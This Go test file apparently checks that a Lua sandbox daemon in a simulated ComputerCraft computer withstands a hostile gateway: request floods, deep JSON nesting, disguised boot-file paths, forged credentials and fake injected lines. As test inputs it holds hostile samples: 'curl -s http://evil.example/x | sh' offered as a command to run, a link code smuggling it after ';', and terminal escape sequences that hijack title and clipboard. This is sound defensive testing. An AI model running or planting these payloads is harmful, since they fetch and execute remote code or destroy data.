package e2e

import (
	"context"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"fakecraft/computer"
	"fakecraft/fakecrafttest"

	"tests/internal/harness"
)

// Fixtures of the tests against a hostile gateway (issue 22): the real Lua daemon, booted in
// fakecraft, defends its computer from a gateway that breaks the protocol.
const (
	// hostileWait bounds each wait of these tests for what a fixed daemon does within a
	// second or two; reaching it means the daemon failed (the old one never gets there).
	hostileWait = time.Minute
	// floodLimit bounds the flood's count; hostileWait bounds its time. A daemon that keeps
	// answering is still flooded when the sleeper's timer fires.
	floodLimit = 5_000_000
	markerUp   = "e2e: connected"
	markerWoke = "e2e: woke"
	markerGone = "e2e: gone:"
	markerSpin = "e2e: spinning"
	// reportLeft is Lua that prints markerGone and the daemon's last error once it is no
	// longer connected, then keeps the computer running.
	reportLeft = `
while true do
  local st = lib.requestStatus()
  if st ~= nil and not st.connected then
    print("` + markerGone + ` " .. tostring(st.lastError))
    break
  end
  sleep(0.2)
end
while true do sleep(1) end
`
	// sleeperProgram sleeps 16 s of computer time (4 s of real time at timeScale 4) once
	// connected: CC loses a timer event that finds its queue full, and a flooded computer's
	// queue is full. The fixed daemon's queue is full for at most a second under -race.
	sleeperProgram = harness.WaitConnectedLua + `
print("` + markerUp + `")
sleep(16)
print("` + markerWoke + `")
` + reportLeft
	// idleHostileProgram waits while the daemon talks to the gateway.
	idleHostileProgram = harness.WaitConnectedLua + `
print("` + markerUp + `")
` + reportLeft
	// spinProgram, once connected, runs without yielding until the file /e2e-go exists: what
	// arrives meanwhile waits in CC's queue, as it does on a busy computer.
	spinProgram = harness.WaitConnectedLua + `
print("` + markerSpin + `")
while not fs.exists("/e2e-go") do end
` + reportLeft
)

// hostileComputerUp boots a computer running program against a hostile gateway of its own,
// waits for program's markerUp, and returns it with the gateway's side of its socket and a
// context that bounds the test's waits from then on (hostileWait).
func hostileComputerUp(ctx context.Context, t *testing.T, program string) (*fakecrafttest.Computer, *harness.GatewaySide, context.Context) {
	t.Helper()
	c, side, _ := hostileComputer(ctx, t, harness.StartHostileGateway(t), program)
	c.WaitFor(ctx, markerUp)
	waitCtx, cancel := context.WithTimeout(ctx, hostileWait)
	t.Cleanup(cancel)
	return c, side, waitCtx
}

// hostileComputer boots a computer whose sandbox.url is the hostile gateway h, running
// program, and returns it with the gateway's side of its socket and the directory of its disk.
func hostileComputer(ctx context.Context, t *testing.T, h *harness.HostileGateway, program string) (*fakecrafttest.Computer, *harness.GatewaySide, string) {
	t.Helper()
	return hostileComputerWith(ctx, t, h, program, nil, nil)
}

// hostileComputerWith is hostileComputer with settings and files of the owner's beside program.
func hostileComputerWith(ctx context.Context, t *testing.T, h *harness.HostileGateway, program string, settings, files map[string]string) (*fakecrafttest.Computer, *harness.GatewaySide, string) {
	t.Helper()
	opts := computerOptionsAt(t, h.URL(), "", "/e2e.lua")
	opts.Overlay = t.TempDir()
	maps.Copy(opts.Settings, settings)
	opts.Files = map[string]string{"/e2e.lua": program}
	maps.Copy(opts.Files, files)
	c := fakecrafttest.StartWithin(t, opts, testTimeout)
	side, err := h.Accept(ctx)
	require.NoError(t, err, c.Output())
	return c, side, opts.Overlay
}

// TestFloodingGatewayCannotStarveASleepingProgram: a gateway floods the computer with
// requests, far past the 32 it may have in flight. CC's queue of 256 events fills, and a
// timer that fires then is lost; a daemon that kept answering kept it full, and a sleeping
// program never woke. The daemon drops such a gateway (4429) as soon as more frames wait
// than it may have in flight, so the queue empties and the program wakes.
func TestFloodingGatewayCannotStarveASleepingProgram(t *testing.T) {
	ctx := testContext(t)
	h := harness.StartHostileGateway(t)
	c, side, _ := hostileComputer(ctx, t, h, sleeperProgram)
	c.WaitFor(ctx, markerUp)

	// The gateway floods until the computer drops it, or the sleeper wakes, or time is up.
	waitCtx, cancel := context.WithTimeout(ctx, hostileWait)
	defer cancel()
	floodCtx, stopFlood := context.WithCancel(waitCtx)
	var sent int
	var flooded time.Duration
	floodDone := make(chan struct{})
	go func() {
		defer close(floodDone)
		start := time.Now()
		sent = side.Flood(floodCtx, floodLimit)
		flooded = time.Since(start)
	}()
	defer func() { stopFlood(); <-floodDone }() // also when WaitFor fails the test
	c.WaitFor(waitCtx, markerWoke)
	stopFlood()
	<-floodDone
	c.WaitFor(waitCtx, markerGone)
	select {
	case <-side.Closed():
	case <-waitCtx.Done():
		t.Fatalf("the computer never dropped the flooding gateway (%d frames sent); transcript:\n%s", sent, c.Output())
	}
	answered := side.FloodAnswers()
	t.Logf("flood: %d frames sent in %v before the computer dropped the socket, %d answered", sent, flooded, answered)

	// The reason wraps over several rows, which reach the transcript one by one: wait for its
	// end before reading it.
	c.WaitFor(waitCtx, "reconnecting in 60 s")
	out := strings.Join(lines(c.Output()), " ")
	assert.Contains(t, out, "closed the connection (4429 too many requests)")
	assert.Less(t, answered, sent, "the daemon stopped listening to the flood")
	assert.Equal(t, 1, h.Connections(), "the daemon waits before it tries that gateway again")
}

// TestDeepFrameIsRefusedNotPrinted: a request nested 5 000 deep overflowed the decoder's
// stack; the handler's error was caught but printed on the player's screen in red, and the
// gateway got no answer. Now the payload is cut out before decoding and refused.
func TestDeepFrameIsRefusedNotPrinted(t *testing.T) {
	ctx := testContext(t)
	h := harness.StartHostileGateway(t)
	c, side, _ := hostileComputer(ctx, t, h, idleHostileProgram)
	c.WaitFor(ctx, markerUp)

	deep := strings.Repeat("[", 5000) + strings.Repeat("]", 5000)
	require.NoError(t, side.WriteText(`{"event":"gateway_request","traposReceiverId":"`+side.TraposID+
		`","messageId":"deep-1","type":"fs.list","payload":{"path":`+deep+`}}`))
	require.NoError(t, side.Request("after-1", harness.TypePing, map[string]any{}))
	waitCtx, cancel := context.WithTimeout(ctx, hostileWait)
	defer cancel()
	answer, err := side.Answer(waitCtx, "deep-1")
	require.NoError(t, err, c.Output())
	require.NotNil(t, answer.Error)
	assert.Equal(t, "bad_payload", answer.Error.Code)
	assert.Equal(t, "the payload is nested deeper than 100 levels, the most this computer decodes", answer.Error.Message)
	ping, err := side.Answer(waitCtx, "after-1")
	require.NoError(t, err)
	assert.True(t, ping.OK != nil && *ping.OK, "the daemon goes on answering")
	assert.NotContains(t, c.Output(), "handler failed")
	assert.NotContains(t, c.Output(), "overflow")
}

// TestRequestOnAClosedSocketPrintsNothing: the gateway sends requests and closes the socket
// while the computer is busy. CC marks the socket closed at once, so the daemon's answers
// meet "attempt to use a closed file", which it printed on the player's screen. Now it drops
// the socket quietly and keeps the gateway's reason.
func TestRequestOnAClosedSocketPrintsNothing(t *testing.T) {
	ctx := testContext(t)
	h := harness.StartHostileGateway(t)
	c, side, overlay := hostileComputer(ctx, t, h, spinProgram)
	c.WaitFor(ctx, markerSpin)

	for _, id := range []string{"late-1", "late-2", "late-3"} {
		require.NoError(t, side.Request(id, harness.TypePing, map[string]any{}))
	}
	require.NoError(t, side.CloseWith(4009, "replaced"))
	waitCtx, cancel := context.WithTimeout(ctx, hostileWait)
	defer cancel()
	select {
	case <-side.Closed(): // CC read the close frame and dropped the connection: it is closed
	case <-waitCtx.Done():
		t.Fatalf("the computer did not drop the socket after the close frame; transcript:\n%s", c.Output())
	}
	require.NoError(t, os.WriteFile(filepath.Join(overlay, "e2e-go"), nil, 0o600))
	c.WaitFor(waitCtx, markerGone)

	assert.Contains(t, c.Output(), markerGone+" replaced")
	assert.NotContains(t, c.Output(), "closed file")
	assert.NotContains(t, c.Output(), "cannot answer")
	assert.Empty(t, side.Answers(), "nothing could be answered on the closed socket")
}

// unansweredProgram, once connected, sends its gateway one request more than the gateway
// takes in flight on a socket, each given up on after half a second, and prints how each
// ended.
const unansweredProgram = harness.WaitConnectedLua + `
print("` + markerUp + `")
for i = 1, 17 do
  local ok, _, err = lib.request("e2e.unanswered", {}, 0.5)
  print("e2e: request " .. i .. ": " .. tostring(ok) .. " " .. tostring(err and err.code))
end
print("` + markerAsked + `")
` + reportLeft

const markerAsked = "e2e: asked"

// askedOnceConnected is a computer's program that, once connected, prints markerUp, runs lua
// (what a test asks its hostile gateway to answer), prints markerAsked and idles: the shape of
// the tests that watch what the client makes of one answer.
func askedOnceConnected(lua string) string {
	return harness.WaitConnectedLua + "\nprint(\"" + markerUp + "\")\n" + lua + "print(\"" + markerAsked + "\")\nwhile true do sleep(1) end\n"
}

// TestGatewayThatAnswersNothingGetsNoMoreThan16Requests: a gateway that answers none of the
// computer's requests (their programs give up on them) was sent every one, and each let it
// have one frame more waiting on the computer: past 200 or so, a flood of that many filled
// CC's queue of 256 and cost a sleeping program its timer, the daemon's 4429 defence
// undone. The daemon now sends at most 16 unanswered, the gateway's own limit: the 17th is
// answered internal at once, and never sent.
func TestGatewayThatAnswersNothingGetsNoMoreThan16Requests(t *testing.T) {
	ctx := testContext(t)
	c, side, waitCtx := hostileComputerUp(ctx, t, unansweredProgram)
	c.WaitFor(waitCtx, markerAsked)

	out := c.Output()
	for i := 1; i <= 16; i++ {
		assert.Contains(t, out, fmt.Sprintf("e2e: request %d: false timeout\n", i))
	}
	assert.Contains(t, out, "e2e: request 17: false internal\n")
	sent, err := side.Requests(waitCtx, 16)
	require.NoError(t, err, out)
	assert.Len(t, sent, 16, "the 17th request is not sent")
	for _, f := range sent {
		assert.Equal(t, "e2e.unanswered", f.Type)
	}
	assert.NotContains(t, out, markerGone, "the gateway is not dropped for it")
}

// TestHostileGatewayCannotWriteTheBootInAnySpelling: what only exec may change (the settings,
// the boot, the sandbox's own files) stays out of reach of a gateway with files write, in
// spellings the real gateway never sends: bytes CC drops from a path (NUL, control
// characters, the wildcards), names it cuts at 255 bytes, "..." as ".", a Windows short name.
// Each is refused forbidden and the computer's disk keeps nothing of them; a file of the
// host's own goes through.
func TestHostileGatewayCannotWriteTheBootInAnySpelling(t *testing.T) {
	ctx := testContext(t)
	h := harness.StartHostileGateway(t)
	c, side, overlay := hostileComputerWith(ctx, t, h, idleHostileProgram, map[string]string{"sandbox.allow_files": "write"}, nil)
	c.WaitFor(ctx, markerUp)
	waitCtx, cancel := context.WithTimeout(ctx, hostileWait)
	defer cancel()

	for i, path := range []string{
		"/start\x00up.lua", "/.settings\x00", "/startup.lua\x1f", "/st?ar*tup.lua", "/apis/libsandbox.lua*",
		"/.../startup.lua", "/x/.../../startup.lua", `\\startup.lua`, "/ startup.lua ", "/\"startup.lua\"",
		"/<startup.lua>|", "/startup.lua" + strings.Repeat(" ", 300) + "x", "/" + strings.Repeat("a", 300) + "/../startup.lua",
		"/SETTIN~1", "/. .", "/.settings.", "/apis/./../APIS/libsandboxcodec.lua", "/disk2/startup.lua",
	} {
		id := fmt.Sprintf("write-%d", i)
		require.NoError(t, side.Request(id, "fs.write", map[string]any{"path": path, "data": "print('owned')"}))
		answer, err := side.Answer(waitCtx, id)
		require.NoError(t, err, c.Output())
		if assert.NotNil(t, answer.Error, "%q was written", path) {
			assert.Equal(t, "forbidden", answer.Error.Code, "%q: %s", path, answer.Error.Message)
			assert.Contains(t, answer.Error.Message, "needs sandbox.allow_exec: it would change ", "%q", path)
		}
	}
	require.NoError(t, side.Request("mine", "fs.write", map[string]any{"path": "/notes.txt", "data": "hi"}))
	answer, err := side.Answer(waitCtx, "mine")
	require.NoError(t, err)
	assert.True(t, answer.OK != nil && *answer.OK, "%+v", answer.Error)

	entries, err := os.ReadDir(overlay)
	require.NoError(t, err)
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	assert.ElementsMatch(t, []string{"e2e.lua", "notes.txt"}, names, "the computer's disk keeps only the host's own file")
}

// TestFrameCCRefusesIsNotANoAnswer: a gateway sent a text frame that is not UTF-8. CC drops
// such a connection by itself and says "Could not connect", its word for any error, and the
// player read "nothing answers at <host>:<port>: start the gateway there, or fix the address
// or port" (its words then), for a gateway that was there at that address. The daemon now says what broke.
func TestFrameCCRefusesIsNotANoAnswer(t *testing.T) {
	ctx := testContext(t)
	h := harness.StartHostileGateway(t)
	c, side, _ := hostileComputer(ctx, t, h, harness.WaitConnectedLua+`
print("`+markerUp+`")
local st
while true do
  st = lib.requestStatus()
  if st ~= nil and not st.connected then break end
  sleep(0.2)
end
-- What the daemon keeps of the close, and what sandbox health and ai make of it (sandbox
-- status would first try again, which this gateway lets in: connected, no error).
print("lastError: " .. tostring(st.lastError))
print("Not connected to the gateway: " .. lib.explainStatus(st))
print("`+markerAsked+`")
while true do sleep(1) end
`)
	c.WaitFor(ctx, markerUp)
	require.NoError(t, side.WriteText("{\"event\":\"gateway_request\",\"messageId\":\"x\",\"type\":\"ping\",\"payload\":{\"x\":\"\xff\"}}"))
	waitCtx, cancel := context.WithTimeout(ctx, hostileWait)
	defer cancel()
	c.WaitFor(waitCtx, markerAsked)
	out := strings.Join(lines(c.Output()), " ")
	assert.Contains(t, out, "lastError: the open connection broke (CC could not read from it): the gateway stopped or the network dropped, or it sent a frame CC refuses (text that is not UTF-8, a broken frame)")
	assert.NotContains(t, out, "nothing answers")
}

// linkTwiceProgram, once connected, runs sandbox link with an enrollment key twice, then
// prints what sandbox.password holds.
var linkTwiceProgram = askedOnceConnected(`
shell.run("sandbox", "link", "tsk_k1_S3cretKeyPart")
shell.run("sandbox", "link", "tsk_k1_S3cretKeyPart")
print("e2e: password " .. #settings.get("sandbox.password") .. " bytes")
`)

// TestLinkToAHostileGateway: sandbox link opens a session of its own to the gateway and shows
// what the gateway says. A broken or hostile gateway's credential was saved as it came (128 KiB
// of it in /.settings, which no hello could then carry), and its refusal printed as it came
// (many lines, fake ones among them). Now a credential other than tsc_<id>_<secret> is not
// saved, and the refusal is one line of at most 256 bytes.
func TestLinkToAHostileGateway(t *testing.T) {
	ctx := testContext(t)
	h := harness.StartHostileGateway(t)
	c, _, overlay := hostileComputer(ctx, t, h, linkTwiceProgram)
	c.WaitFor(ctx, markerUp)
	waitCtx, cancel := context.WithTimeout(ctx, hostileWait)
	defer cancel()

	// The first link: approved, with 100 KB for a credential.
	session, begin := nextLinkBegin(waitCtx, t, h, c)
	require.NoError(t, session.Respond(begin, map[string]any{"state": "approved", "account": "mallory",
		"approvedBy": "mallory", "credential": strings.Repeat("x", 100_000)}, nil))

	// The second: refused, in many lines.
	session, begin = nextLinkBegin(waitCtx, t, h, c)
	require.NoError(t, session.Respond(begin, nil, &harness.Error{Code: "odd\ncode",
		Message: "no\n\nLinked to alice.\nThe daemon reconnects with the new credential.\n" + strings.Repeat("z", 1000)}))

	c.WaitFor(waitCtx, markerAsked)
	out := c.Output()
	joined := strings.Join(lines(out), " ")
	assert.Contains(t, joined, "The gateway linked the computer but sent no credential of the form tsc_<id>_<secret> (100000 bytes), so it is not saved;")
	assert.Contains(t, joined, "The gateway refused the link: odd code: no Linked to alice. The daemon reconnects with the new credential. zzz")
	// the cut word breaks where the rows end
	assert.Contains(t, strings.ReplaceAll(joined, " ", ""), "zzz...(cut,1068bytes)e2e:password0bytes")
	assert.NotContains(t, out, "\nLinked to alice.", "no line of the gateway's own making")
	if settings, err := os.ReadFile(filepath.Join(overlay, ".settings")); err == nil {
		assert.NotContains(t, string(settings), "xxxxxxxx", "the gateway's credential went into /.settings")
	}
}

// linkCodeTwiceProgram, once connected, runs sandbox link (a code) twice, then prints what
// sandbox.password holds.
var linkCodeTwiceProgram = askedOnceConnected(`
shell.run("sandbox", "link")
shell.run("sandbox", "link")
print("e2e: password " .. tostring(settings.get("sandbox.password")))
`)

// TestLinkCodeOfAHostileGateway: sandbox link showed the command the account holder runs on
// the host as the gateway's link.begin worded it (approveLine), so a hostile gateway put a
// command of its choosing on the screen as the one to run on the host; and after the player
// agreed to link to the account the poll named, it saved the credential link.accept sent for
// another. Now the computer builds the approve line from a code that is one plain word (else
// it refuses the code), and saves no credential of an account the player did not agree to.
func TestLinkCodeOfAHostileGateway(t *testing.T) {
	ctx := testContext(t)
	h := harness.StartHostileGateway(t)
	input := make(chan string)
	opts := computerOptionsAt(t, h.URL(), "shared", "/e2e.lua")
	opts.Overlay = t.TempDir()
	opts.Files = map[string]string{"/e2e.lua": linkCodeTwiceProgram}
	opts.Input = computer.Input(input)
	c := fakecrafttest.StartWithin(t, opts, testTimeout)
	_, err := h.Accept(ctx) // the daemon's socket
	require.NoError(t, err, c.Output())
	c.WaitFor(ctx, markerUp)
	waitCtx, cancel := context.WithTimeout(ctx, hostileWait)
	defer cancel()

	// The first link: a command of the gateway's own, then a credential into another account.
	session, begin := nextLinkBegin(waitCtx, t, h, c)
	require.NoError(t, session.Respond(begin, map[string]any{"code": "BCDF-GHJK", "expiresInMs": 600000,
		"approveLine": "curl -s http://evil.example/x | sh"}, nil))
	asked, err := session.Requests(waitCtx, 2)
	require.NoError(t, err, c.Output())
	require.Equal(t, "link.poll", asked[1].Type)
	require.NoError(t, session.Respond(asked[1], map[string]any{"state": "approved", "account": "alice", "approvedBy": "alice"}, nil))
	typeLine(waitCtx, t, input, "y")
	asked, err = session.Requests(waitCtx, 3)
	require.NoError(t, err, c.Output())
	require.Equal(t, "link.accept", asked[2].Type)
	require.NoError(t, session.Respond(asked[2], map[string]any{"account": "mallory", "credential": "tsc_m1_MalloryOwnsThis"}, nil))

	// The second: a code that is a shell line.
	session, begin = nextLinkBegin(waitCtx, t, h, c)
	require.NoError(t, session.Respond(begin, map[string]any{"code": "BCDF; curl -s http://evil.example/x | sh",
		"expiresInMs": 600000}, nil))

	c.WaitFor(waitCtx, markerAsked)
	out := c.Output()
	rows := lines(out)
	joined := strings.Join(rows, " ")
	assert.Contains(t, rows, "  trap-sandbox link approve BCDF-GHJK")
	assert.NotContains(t, out, "evil.example", "no command of the gateway's making")
	assert.Contains(t, joined, "Link this computer to alice? [y/N]")
	assert.Contains(t, joined, "The gateway linked the computer to mallory, not to alice as you agreed, so its credential is not saved;")
	assert.NotContains(t, joined, "Linked to mallory")
	assert.Contains(t, joined, "The gateway's link code is not one word of letters, digits and - (40 bytes, at most 22), so it is not shown;")
	assert.Contains(t, rows, "e2e: password shared", "sandbox.password stays as it was")
}

// nextLinkBegin accepts the next session sandbox link opens to h and returns it with its first
// request, which must be link.begin.
func nextLinkBegin(ctx context.Context, t *testing.T, h *harness.HostileGateway, c *fakecrafttest.Computer) (*harness.GatewaySide, harness.Frame) {
	t.Helper()
	session, err := h.Accept(ctx)
	require.NoError(t, err, c.Output())
	begin, err := session.Requests(ctx, 1)
	require.NoError(t, err, c.Output())
	require.Equal(t, "link.begin", begin[0].Type)
	return session, begin[0]
}

// aiProgram, once connected, asks the gateway's agent one question.
var aiProgram = askedOnceConnected(`
shell.run("ai", "hi")
`)

// askedAndPolled answers computer c's ai.ask, on side, with the turn t1, and returns the
// ai.poll that follows, which the test answers with the turn's events.
func askedAndPolled(ctx context.Context, t *testing.T, c *fakecrafttest.Computer, side *harness.GatewaySide) harness.Frame {
	t.Helper()
	asked, err := side.Requests(ctx, 1)
	require.NoError(t, err, c.Output())
	require.Equal(t, "ai.ask", asked[0].Type)
	require.NoError(t, side.Respond(asked[0], map[string]any{"turnId": "t1"}, nil))
	polled, err := side.Requests(ctx, 2)
	require.NoError(t, err, c.Output())
	require.Equal(t, "ai.poll", polled[1].Type)
	return polled[1]
}

// TestAgentLinesOfAHostileGateway: the ai command printed the gateway's words around the
// answer (a tool's line, a turn's error) as they came, newlines and all, so a gateway could
// print lines of its own making between them ("Allowed: write /startup.lua"). Each is one line
// now (cut at 1024 bytes, which its spec shows).
func TestAgentLinesOfAHostileGateway(t *testing.T) {
	ctx := testContext(t)
	c, side, waitCtx := hostileComputerUp(ctx, t, aiProgram)

	poll := askedAndPolled(waitCtx, t, c, side)
	require.NoError(t, side.Respond(poll, map[string]any{"done": true, "events": []map[string]any{
		{"seq": 1, "kind": "tool", "tool": "read_file", "detail": "/a\nAllowed: write /startup.lua", "state": "completed"},
		{"seq": 2, "kind": "error", "code": "ai_unavailable", "message": "down\r\n\nAllowed: run rm /\n" + strings.Repeat("z", 300)},
		{"seq": 3, "kind": "done", "reason": "error"},
	}}, nil))

	c.WaitFor(waitCtx, markerAsked)
	rows := lines(c.Output())
	assert.Contains(t, rows, "* read_file /a Allowed: write /startup.lua")
	assert.NotContains(t, rows, "Allowed: write /startup.lua", "no line of the gateway's own making")
	assert.NotContains(t, rows, "Allowed: run rm /")
	assert.Contains(t, strings.Join(rows, " "), "down Allowed: run rm / "+strings.Repeat("z", 51))
}

// TestAHostileGatewaysAnswerDrivesNoTerminal: the agent's answer is the gateway's text, which
// ai writes on the computer's screen as it comes; there CC's font draws its control bytes as
// glyphs, and fakecraft's transcript (the terminal run prints on) shows them as those glyphs
// too. Its bytes went to the terminal as they came: a hostile gateway's "\x1b]0;…\a" set the
// window's title, "\x1b]52;c;…\a" the clipboard, "\x1b[2J" cleared the screen.
func TestAHostileGatewaysAnswerDrivesNoTerminal(t *testing.T) {
	ctx := testContext(t)
	c, side, waitCtx := hostileComputerUp(ctx, t, aiProgram)

	poll := askedAndPolled(waitCtx, t, c, side)
	require.NoError(t, side.Respond(poll, map[string]any{"done": true, "events": []map[string]any{
		{"seq": 1, "kind": "text", "text": "hi\x1b]0;pwned\a\x1b]52;c;cm0gLXJmIH4K\a\x1b[2Jthere\n"},
		{"seq": 2, "kind": "done", "reason": "stop"},
	}}, nil))

	c.WaitFor(waitCtx, markerAsked)
	out := c.Output()
	for _, b := range []string{"\x1b", "\a"} {
		assert.NotContains(t, out, b)
	}
	assert.Contains(t, out, "hi←]0;pwned•←]52;c;cm0gLXJmIH4K•←[2Jthere", "as CC's font draws them")
}

// TestAgentEventsOfTheWrongTypeShowNoLuaValue: ai showed a turn's event field that was
// missing or not a string as Lua's word for it: "* nil", "Retrying (attempt nil)", "(The answer
// was cut: nil)", "table: 3b44facf58c0" (played: a gateway sending random events). A field of
// another type is left out now, or said in words.
func TestAgentEventsOfTheWrongTypeShowNoLuaValue(t *testing.T) {
	ctx := testContext(t)
	c, side, waitCtx := hostileComputerUp(ctx, t, aiProgram)

	poll := askedAndPolled(waitCtx, t, c, side)
	table := map[string]any{"a": 1}
	require.NoError(t, side.Respond(poll, map[string]any{"done": true, "events": []map[string]any{
		{"seq": 1, "kind": "text", "text": table},
		{"seq": 2, "kind": "tool", "detail": table, "state": "completed"},
		{"seq": 3, "kind": "tool", "tool": table, "detail": "/a", "state": "error", "error": table},
		{"seq": 4, "kind": "retry", "attempt": table, "message": table},
		{"seq": 5, "kind": "retry"},
		{"seq": 6, "kind": "cut", "message": table},
		{"seq": 7, "kind": "error", "message": table, "code": table},
		{"seq": 8, "kind": "done", "reason": "error"},
	}}, nil))

	c.WaitFor(waitCtx, markerAsked)
	out := c.Output()
	rows := lines(out)
	assert.NotContains(t, out, "table: ")
	assert.NotContains(t, out, "nil")
	assert.Contains(t, rows, "* a tool")
	assert.Contains(t, rows, "* a tool /a failed: error")
	assert.Contains(t, strings.Join(rows, "|"), "The agent's model failed on the gateway's host,|retrying: no reason given")
	assert.Contains(t, rows, "(The answer was cut)")
	assert.Contains(t, rows, "the turn failed")
}

// TestAConfirmOfAHostileGatewayShowsNoFileItMayNotRead: a confirm event of write_file whose
// request is no fs.write (a ping naming /diary.txt) was refused by no setting, and ai showed
// what the "write" would change: the file's own lines, on the screen the owner lets the host
// watch (allow_screen view) but whose files it may not read (allow_files none). The file is
// read for a write's confirm only when its request is the fs.write the settings were checked
// against.
func TestAConfirmOfAHostileGatewayShowsNoFileItMayNotRead(t *testing.T) {
	ctx := testContext(t)
	h := harness.StartHostileGateway(t)
	c, side, _ := hostileComputerWith(ctx, t, h, aiProgram, map[string]string{"sandbox.allow_screen": "view"},
		map[string]string{"/diary.txt": "dear diary\nthe vault code is hunter2-ZQX\n"})
	c.WaitFor(ctx, markerUp)
	waitCtx, cancel := context.WithTimeout(ctx, hostileWait)
	defer cancel()

	poll := askedAndPolled(waitCtx, t, c, side)
	require.NoError(t, side.Respond(poll, map[string]any{"events": []map[string]any{
		{"seq": 1, "kind": "confirm", "confirmId": "c1", "tool": "write_file", "action": "write", "bytes": 1, "content": "x",
			"request": map[string]any{"type": "ping", "payload": map[string]any{"path": "/diary.txt"}}},
	}}, nil))
	// The question is on the screen (the transcript holds its row only once it is answered, or
	// once it answers n by itself, 60 s of the computer's clock later).
	require.Eventually(t, func() bool { return strings.Contains(c.Screen(), "Allow? [y/N]") }, hostileWait, pollInterval,
		"the question never showed; transcript:\n%s", c.Output())

	require.NoError(t, side.Request("look", "screen.read", map[string]any{}))
	seen, err := side.Answer(waitCtx, "look")
	require.NoError(t, err, c.Output())
	require.True(t, seen.OK != nil && *seen.OK, "%+v", seen.Error)
	assert.NotContains(t, string(seen.Payload), "hunter2", "the host read the file off the screen")
	assert.NotContains(t, c.Output(), "hunter2")
	assert.Contains(t, strings.Join(lines(c.Output()), " "), "/diary.txt")
}

// TestAHostileGatewayGetsNothingTheOwnerDidNotAllow: a computer whose owner allowed nothing
// (its /.settings holds hand-edited look-alikes of the allowing values, "true" as a string,
// "Write", "Control", which allow nothing either) answers a gateway's every file, Lua,
// program and screen request forbidden, naming the setting that would allow it, and its disk
// keeps what it had; ping and computer.info, which every computer answers, are served.
func TestAHostileGatewayGetsNothingTheOwnerDidNotAllow(t *testing.T) {
	ctx := testContext(t)
	h := harness.StartHostileGateway(t)
	const settings = `{ ["sandbox.allow_exec"] = "true", ["sandbox.allow_files"] = "Write", ["sandbox.allow_screen"] = "Control" }`
	c, side, overlay := hostileComputerWith(ctx, t, h, idleHostileProgram, nil, map[string]string{"/.settings": settings})
	c.WaitFor(ctx, markerUp)
	waitCtx, cancel := context.WithTimeout(ctx, hostileWait)
	defer cancel()

	for i, r := range []struct {
		typ     string
		payload map[string]any
		setting string
	}{
		{"fs.list", map[string]any{"path": "/"}, "sandbox.allow_files read"},
		{"fs.read", map[string]any{"path": "/.settings"}, "sandbox.allow_files read"},
		{"fs.write", map[string]any{"path": "/pwned", "data": "x"}, "sandbox.allow_files write"},
		{"fs.delete", map[string]any{"path": "/e2e.lua"}, "sandbox.allow_files write"},
		{"fs.move", map[string]any{"from": "/e2e.lua", "to": "/moved.lua"}, "sandbox.allow_files write"},
		{"fs.makeDir", map[string]any{"path": "/pwned-dir"}, "sandbox.allow_files write"},
		{"lua.exec", map[string]any{"code": "fs.open('/pwned', 'w').close()"}, "sandbox.allow_exec true"},
		{"shell.run", map[string]any{"command": "mkdir /pwned-dir"}, "sandbox.allow_exec true"},
		{"screen.read", map[string]any{}, "sandbox.allow_screen view"},
		{"screen.watch", map[string]any{}, "sandbox.allow_screen view"},
		{"screen.input", map[string]any{"events": []any{map[string]any{"type": "terminate"}}}, "sandbox.allow_screen control"},
	} {
		id := fmt.Sprintf("ask-%d", i)
		require.NoError(t, side.Request(id, r.typ, r.payload))
		answer, err := side.Answer(waitCtx, id)
		require.NoError(t, err, c.Output())
		if assert.NotNil(t, answer.Error, "%s was served", r.typ) {
			assert.Equal(t, "forbidden", answer.Error.Code, "%s: %s", r.typ, answer.Error.Message)
			assert.True(t, strings.HasSuffix(answer.Error.Message, "can allow it with: set "+r.setting), "%s: %s", r.typ, answer.Error.Message)
		}
	}
	for _, typ := range []string{"ping", "computer.info"} {
		require.NoError(t, side.Request(typ, typ, map[string]any{}))
		answer, err := side.Answer(waitCtx, typ)
		require.NoError(t, err, c.Output())
		assert.True(t, answer.OK != nil && *answer.OK, "%s: %+v", typ, answer.Error)
	}

	entries, err := os.ReadDir(overlay)
	require.NoError(t, err)
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	assert.ElementsMatch(t, []string{".settings", "e2e.lua"}, names, "nothing was written, moved or deleted")
	got, err := os.ReadFile(filepath.Join(overlay, ".settings"))
	require.NoError(t, err)
	assert.Equal(t, settings, string(got))
	assert.NotContains(t, c.Output(), markerGone, "the daemon is still connected")
}

// healthProgram, once connected, runs sandbox health.
var healthProgram = askedOnceConnected(`
shell.run("sandbox", "health")
`)

// TestHealthShowsAHostileGatewaysNotConnectedInOneLine: sandbox health printed the message of a
// not_connected answer to its probe_gateway as it came, newlines and all (every other answer's
// words are one line), so a gateway put lines of its own making on the screen ("sandboxOk:
// true") and 100 KB of text. It is one line now, cut at 256 bytes, as ai says such a message.
func TestHealthShowsAHostileGatewaysNotConnectedInOneLine(t *testing.T) {
	ctx := testContext(t)
	c, side, waitCtx := hostileComputerUp(ctx, t, healthProgram)

	asked, err := side.Requests(waitCtx, 1)
	require.NoError(t, err, c.Output())
	require.Equal(t, "probe_gateway", asked[0].Type)
	require.NoError(t, side.Respond(asked[0], nil, &harness.Error{Code: "not_connected",
		Message: "down\nsandboxOk: true\nopencodeOk: true\n" + strings.Repeat("z", 100_000)}))

	c.WaitFor(waitCtx, markerAsked)
	// Asserted without quoting the rows: unfixed, they are 100 KB.
	rows := lines(c.Output())
	assert.False(t, slices.Contains(rows, "sandboxOk: true"), "a line of the gateway's own making")
	assert.False(t, slices.Contains(rows, "opencodeOk: true"), "a line of the gateway's own making")
	joined := strings.ReplaceAll(strings.Join(rows, ""), " ", "")
	assert.True(t, strings.Contains(joined, "Notconnectedtothegateway:downsandboxOk:trueopencodeOk:truezzz"), "the message in one line")
	assert.True(t, strings.Contains(joined, "...(cut,100038bytes)"), "the message cut")
	assert.Less(t, len(joined), 2000, "the screen's text")
}

// helloStatusProgram waits until the daemon's try has an outcome (connected, refused, or waiting
// to try again), then runs sandbox status and prints the daemon's faults.
const helloStatusProgram = `
local lib = require('/apis/libsandbox')
while true do
  local st = lib.requestStatus()
  if st ~= nil and st.state ~= "connecting" and st.state ~= "authenticating" and st.state ~= "dormant" then break end
  sleep(0.2)
end
shell.run("sandbox", "status")
print("e2e: faults " .. tostring(lib.requestStatus().faults))
print("` + markerAsked + `")
